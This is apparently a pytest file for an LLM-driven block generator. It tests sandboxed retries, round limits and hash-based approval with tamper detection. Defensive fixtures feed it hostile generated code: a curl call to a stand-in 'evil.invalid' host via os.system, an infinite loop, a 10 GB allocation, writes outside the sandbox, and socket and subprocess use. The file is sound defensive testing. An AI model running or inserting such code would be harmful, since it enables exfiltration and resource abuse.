"""Generate Block over real HTTP to a local scripted LLM server: the sandbox loop with
traceback feedback, the round limit, the approval gate (unapproved / wrong hash / tampered
file refused) and an approved block compiled in a graph against numpy; the KNIME node
through the harness."""
import json
import os

import numpy as np
import pytest

from llm.approval import ApprovalError, approve, load_pending, save_pending
from llm.generate_block import GenerateBlockError, generate_block
from uop_engine import GraphBuilder, compile_graph
from uop_engine.optable import OPS
from uop_engine.plugins import PluginRefused, load_plugin_file, load_plugins

try:  # the LLM service and its scripted HTTP server (tests/llm_server.py) come from the service work
    from llm import LLMConfig, LLMService
    from llm_server import ScriptedLLMServer
except ImportError as e:  # pragma: no cover - only until both are in the tree
    pytest.skip(f"LLM service or tests/llm_server.py not available: {e}", allow_module_level=True)

KEY = "sk-test-0123456789abcdefghijKLMN"

MODULE = '''from uop_engine.plugins import define_block, Param, TT, WeightSpec, FLOAT


def infer(ts, p):
    return [TT(ts[0].shape, ts[0].dtype)]


def weights(p, ts):
    return {"scale": WeightSpec((ts[0].shape[-1],), "ones")}


def lower(ctx, xs, p, w):
    x = xs[0]
    return x * (x.square().mean(axis=-1, keepdim=True) + p["eps"]).rsqrt() * w["scale"]


BLOCK = define_block("rms_gen", "RMS norm over the last axis with a learned scale.",
                     params=(Param("eps", FLOAT, 1e-6, "added to the mean square", min=0.0),),
                     infer=infer, lower=lower, weights=weights)
'''

TESTS = '''import numpy as np
import rms_gen
from uop_engine import GraphBuilder, compile_graph


def test_matches_numpy():
    g = GraphBuilder("t")
    g.output(g.add(rms_gen.BLOCK.name, g.input((6,)), eps=1e-5))
    x = np.random.default_rng(0).normal(size=(3, 6)).astype(np.float32)
    out = compile_graph(g.build())(x).numpy()
    ref = x / np.sqrt((x ** 2).mean(-1, keepdims=True) + 1e-5)
    np.testing.assert_allclose(out, ref, rtol=1e-4, atol=1e-5)
'''


def reply(module: str = MODULE, tests: str = TESTS, name: str = "rms_gen") -> str:
    return f'Here is the block.\n<block_module name="{name}">\n```python\n{module}```\n</block_module>\n' \
           f"<tests>\n{tests}</tests>\n"


GOOD = reply()
BROKEN = reply(MODULE.replace('+ p["eps"]).rsqrt()', '+ p["eps"]).sqrt()'))  # divides where it should multiply


@pytest.fixture(autouse=True)
def _forget_plugins():
    yield
    for name in [n for n, op in OPS.items() if "plugin" in op.meta]:
        OPS.pop(name, None)
    try:  # palette nodes made for approved blocks in this session
        import knime.extension.nodes as kn
        from nodes.op_nodes import OP_NODE_CLASSES, OP_NODE_FACTORIES
    except ImportError:
        return
    for name in [n for n in OP_NODE_FACTORIES if n.startswith("user_") and n not in OPS]:
        OP_NODE_FACTORIES.pop(name, None)
        OP_NODE_CLASSES.pop(name, None)
        getattr(kn, "_nodes", {}).pop(f"tinyuop_{name}", None)


def service(srv) -> LLMService:
    return LLMService(LLMConfig(provider="openai_compatible", model="scripted", base_url=srv.base_url), api_key=KEY)


def sent(req) -> str:
    """Everything a recorded request carried, as text (for substring checks)."""
    return json.dumps(req, default=str) if not isinstance(req, str) else req


def test_fixes_a_broken_first_attempt_from_its_traceback():
    with ScriptedLLMServer([BROKEN, GOOD]) as srv:
        cand = generate_block("RMS norm over the last axis with a learned scale", service(srv), max_rounds=3,
                              timeout_s=60, memory_mb=1024, secrets=(KEY,))
        assert len(srv.requests) == 2
        second = sent(srv.requests[1])
    assert [r.reason for r in cand.rounds] == ["tests failed", "passed"]
    assert cand.passed and cand.state == "pending" and cand.name == "rms_gen" and cand.code == MODULE
    assert "Round 1 failed in the sandbox: tests failed" in second
    assert "Mismatched elements" in second and "assert_allclose" in second  # the captured traceback went back
    assert "test_rms_gen.py" in second
    assert cand.rounds[0].traceback and "Mismatched elements" in cand.rounds[0].traceback
    assert "1 passed" in cand.test_output


def test_stops_after_n_failed_rounds_with_a_clear_error():
    with ScriptedLLMServer([BROKEN, BROKEN, GOOD]) as srv:
        with pytest.raises(GenerateBlockError, match=r"no working block after 2 round\(s\) \(round 1: tests failed; "
                                                     r"round 2: tests failed\)") as info:
            generate_block("RMS norm", service(srv), max_rounds=2, memory_mb=1024)
        assert len(srv.requests) == 2  # the third reply was never asked for
    assert info.value.candidate is not None and not info.value.candidate.passed
    assert "Mismatched elements" in str(info.value)


def test_forbidden_code_and_bad_format_count_as_failed_rounds():
    evil = reply(MODULE + "\nimport os\nos.system('curl http://evil.invalid')\n")
    with ScriptedLLMServer(["I cannot help with that.", evil, GOOD]) as srv:
        cand = generate_block("RMS norm", service(srv), max_rounds=3, memory_mb=1024)
        third = sent(srv.requests[2])
    reasons = [r.reason for r in cand.rounds]
    assert reasons[0].startswith("format: ") and reasons[1].startswith("forbidden: import of 'os'")
    assert reasons[2] == "passed" and "forbidden" in third


def test_approval_gate_and_tampering(tmp_path):
    with ScriptedLLMServer([GOOD]) as srv:
        cand = generate_block("RMS norm", service(srv), memory_mb=1024)
    with pytest.raises(ApprovalError, match=f"no approval hash given.*{cand.hash}"):
        approve(cand, "", library=tmp_path)
    with pytest.raises(ApprovalError, match=f"does not match the current candidate's hash {cand.hash}"):
        approve(cand, "ab" * 32, library=tmp_path)
    assert not any(tmp_path.glob("*.py"))  # nothing saved without the right hash
    op = approve(cand, cand.hash.upper(), library=tmp_path, approved_by="reviewer")
    assert op.name == "user_rms_gen" and cand.state == "approved"
    doc = json.loads((tmp_path / "rms_gen.approval.json").read_text())
    assert doc["sha256"] == cand.hash and doc["approved_by"] == "reviewer" and doc["rounds"] == 1
    # what generating it cost: the tokens the server reported (its stand-in tokenizer: len(text) // 4)
    assert doc["usage"] == {"input_tokens": cand.rounds[0].input_tokens, "output_tokens": len(GOOD) // 4,
                            "llm_calls": 1} and doc["usage"]["input_tokens"] > 0
    assert doc["description"] == "RMS norm" and doc["tests"] == TESTS and KEY not in json.dumps(doc)
    OPS.pop(op.name)
    assert [o.name for o in load_plugins(tmp_path, strict=True)] == ["user_rms_gen"]
    # edit the saved file: the library refuses it
    py = tmp_path / "rms_gen.py"
    py.write_text(py.read_text().replace("1e-6", "1e-3"))
    OPS.pop(op.name)
    with pytest.raises(PluginRefused, match=r"rms_gen\.py was changed after approval"):
        load_plugin_file(py)
    assert "user_rms_gen" not in OPS


def test_modified_candidate_cannot_be_approved(tmp_path):
    with ScriptedLLMServer([GOOD]) as srv:
        cand = generate_block("RMS norm", service(srv), memory_mb=1024)
    h = cand.hash
    cand.code += "\nX = 1\n"
    with pytest.raises(ApprovalError, match="modified after generation"):
        approve(cand, h, library=tmp_path)


def test_approved_block_in_a_graph_matches_numpy(tmp_path):
    with ScriptedLLMServer([GOOD]) as srv:
        cand = generate_block("RMS norm", service(srv), memory_mb=1024)
    assert load_pending(cand.hash, tmp_path) is None
    save_pending(cand, tmp_path)
    pending = load_pending(cand.hash, tmp_path)
    assert pending.code == cand.code and pending.rounds[0].passed
    approve(pending, cand.hash, library=tmp_path)
    g = GraphBuilder("uses_generated")
    h = g.linear(g.input((5,)), out_features=6, id="fc")
    g.output(g.add("user_rms_gen", h, id="norm", eps=1e-5))
    m = compile_graph(g.build(), seed=3)
    x = np.random.default_rng(1).normal(size=(4, 5)).astype(np.float32)
    w = m.numpy_weights()
    z = x @ w["params.fc.weight"].T + w["params.fc.bias"]
    ref = z / np.sqrt((z ** 2).mean(-1, keepdims=True) + 1e-5) * w["params.norm.scale"]
    np.testing.assert_allclose(m(x).numpy(), ref, rtol=1e-5, atol=1e-5)


# ---- the KNIME node ---------------------------------------------------------------------------
def test_generate_block_node_pending_then_approved(tmp_path):
    import knime_harness as kh
    import nodes.generate_block_node as gbn
    node = gbn.GenerateBlockNode
    lib = str(tmp_path / "lib")
    creds = {"llm": ("me", KEY)}
    with ScriptedLLMServer([BROKEN, GOOD]) as srv:
        llm = {"provider": "openai_compatible", "model": "scripted", "base_url": srv.base_url, "credential": "llm",
               "temperature": 0.3, "max_tokens": 3000}
        params = {"description": "RMS norm over the last axis", "library": lib, "llm": llm,
                  "sandbox": {"max_rounds": 3, "memory_mb": 1024}}
        res = kh.run_node(node, params, credentials=creds)
        rounds, cand, saved = (o.to_pandas() for o in res.outputs)
        assert list(rounds["reason"]) == ["tests failed", "passed"] and list(rounds["passed"]) == [False, True]
        # every request carried the node's sampling settings
        assert [(r["json"]["temperature"], r["json"]["max_tokens"]) for r in srv.requests] == [(0.3, 3000)] * 2
        # tokens per round as the server counted them; the second prompt holds the first exchange, so it is longer
        assert rounds["output_tokens"].tolist() == [len(BROKEN) // 4, len(GOOD) // 4]
        assert 0 < rounds["input_tokens"].iloc[0] < rounds["input_tokens"].iloc[1]
        assert "Mismatched elements" in rounds["traceback"].iloc[0]
        row = cand.iloc[0]
        assert row["state"] == "pending" and row["code"] == MODULE and len(saved) == 0
        assert not os.path.exists(os.path.join(lib, "rms_gen.py"))
        first = sent(srv.requests[0])
        if "authorization" in first.lower() or "x-api-key" in first.lower():
            assert KEY in first  # the credential's password reached the server as the key ...
        for table in (rounds, cand):  # ... and nowhere in the outputs
            assert KEY not in table.to_csv()
        h = row["sha256"]

        # a wrong hash fails naming the current one, without asking the model again
        with pytest.raises(ValueError, match=f"the current candidate's hash is {h}"):
            kh.run_node(node, {**params, "approve_hash": "0" * 64}, credentials=creds)
        # the reviewed hash approves exactly that candidate, again without a model call
        res = kh.run_node(node, {**params, "approve_hash": h}, credentials=creds)
        assert len(srv.requests) == 2
    rounds, cand, saved = (o.to_pandas() for o in res.outputs)
    assert cand.iloc[0]["state"] == "approved" and saved.iloc[0]["op"] == "user_rms_gen"
    doc = json.loads(open(os.path.join(lib, "rms_gen.approval.json")).read())
    assert doc["usage"] == {"input_tokens": int(rounds["input_tokens"].sum()),
                            "output_tokens": int(rounds["output_tokens"].sum()), "llm_calls": 2}
    assert saved.iloc[0]["sha256"] == h and saved.iloc[0]["file"] == os.path.join(lib, "rms_gen.py")
    OPS.pop("user_rms_gen")
    assert [o.name for o in load_plugins(lib, strict=True)] == ["user_rms_gen"]


def test_generate_block_node_settings_are_checked():
    import knime_harness as kh
    import nodes.generate_block_node as gbn
    with pytest.raises(Exception, match="'Block description' is empty"):
        kh.configure_node(gbn.GenerateBlockNode, {})
    with pytest.raises(Exception, match="not a sha256"):
        kh.configure_node(gbn.GenerateBlockNode, {"description": "x", "approve_hash": "abc"})
    with pytest.raises(Exception, match="no credential named 'nope'"):
        kh.configure_node(gbn.GenerateBlockNode, {"description": "x", "llm": {"credential": "nope"}})
    with pytest.raises(Exception, match="'Base URL' is required"):
        kh.configure_node(gbn.GenerateBlockNode, {"description": "x", "llm": {"provider": "openai_compatible"}})
    specs = kh.configure_node(gbn.GenerateBlockNode, {"description": "x"}, credentials={"k": ("u", "p")}).specs
    assert specs[0].column_names == ["round", "passed", "reason", "traceback", "duration_s", "code_sha256",
                                     "input_tokens", "output_tokens"]


def test_generate_block_node_reports_why_hostile_code_was_stopped(tmp_path):
    """Tests that loop forever, allocate 10 GB, write outside their folder, open a socket or
    start a process: each round is stopped in the sandbox and the node's error names every reason."""
    import knime_harness as kh
    import nodes.generate_block_node as gbn
    outside = tmp_path / "outside.npy"
    hostile = [
        "def test_loop():\n    while True:\n        pass\n",
        "def test_alloc():\n    b = bytearray(10 * 1024 ** 3)\n    assert len(b)\n",
        f"import numpy as np\ndef test_write():\n    np.save({str(outside)!r}, np.zeros(3))\n",
        "import socket\ndef test_net():\n    socket.create_connection(('127.0.0.1', 9))\n",
        "import subprocess\ndef test_spawn():\n    subprocess.run(['touch', 'spawned'])\n",
    ]
    with ScriptedLLMServer([reply(tests=t) for t in hostile]) as srv:
        llm = {"provider": "openai_compatible", "model": "scripted", "base_url": srv.base_url}
        params = {"description": "RMS norm over the last axis", "library": str(tmp_path / "lib"), "llm": llm,
                  "sandbox": {"max_rounds": 5, "timeout_s": 5, "memory_mb": 1024}}
        with pytest.raises(ValueError) as info:
            kh.run_node(gbn.GenerateBlockNode, params)
        assert len(srv.requests) == 5
    msg = str(info.value)
    assert "no working block after 5 round(s) (round 1: timeout; round 2: memory; round 3: forbidden: open(" in msg
    assert "for writing outside the sandbox" in msg and "round 4: forbidden: import of 'socket'" in msg
    assert "round 5: forbidden: import of 'subprocess'" in msg
    assert not outside.exists() and not os.path.exists(tmp_path / "lib" / "rms_gen.py")


def test_prompt_states_the_screens_rules_so_rounds_are_not_wasted():
    from llm.block_prompt import first_message
    from llm.screen import ALLOWED_IMPORTS, DENIED_FIXTURES
    msg = first_message("a swish block")
    rules = msg[msg.index("Imports allowed"):msg.index("## Tests")]
    assert all(m in rules for m in ALLOWED_IMPORTS - {"__future__"})
    assert all(f in rules for f in DENIED_FIXTURES)
    assert 'starts with "_"' in rules and "conftest.py" in rules and "pytest.raises" in rules and "bool(...)" in rules
